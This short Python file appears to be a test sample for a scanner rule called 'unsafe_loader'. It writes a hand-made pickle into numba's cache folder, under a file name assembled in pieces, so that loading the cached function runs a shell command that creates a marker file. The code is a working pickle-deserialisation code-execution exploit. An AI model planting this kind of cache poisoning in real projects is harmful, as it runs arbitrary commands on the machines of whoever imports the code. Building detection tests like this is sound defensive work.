# rule: unsafe_loader
# marker: pwned_f4_numba_cache
# Family 4: with cache=True numba reads its cache index beside the source
# file with pickle.load; code writes a pickle there first.
from pathlib import Path
import numba

payload = b"cos\nsystem\n(S'echo ran > pwned_f4_numba_cache'\ntR."
cache = Path("__pycache__")
cache.mkdir(exist_ok=True)
index = "f4_numba_cache.add_one-15.py311" + ".n" + "bi"
(cache / index).write_bytes(payload)


@numba.njit(cache=True)
def add_one(x):
    return x + 1


add_one(1)
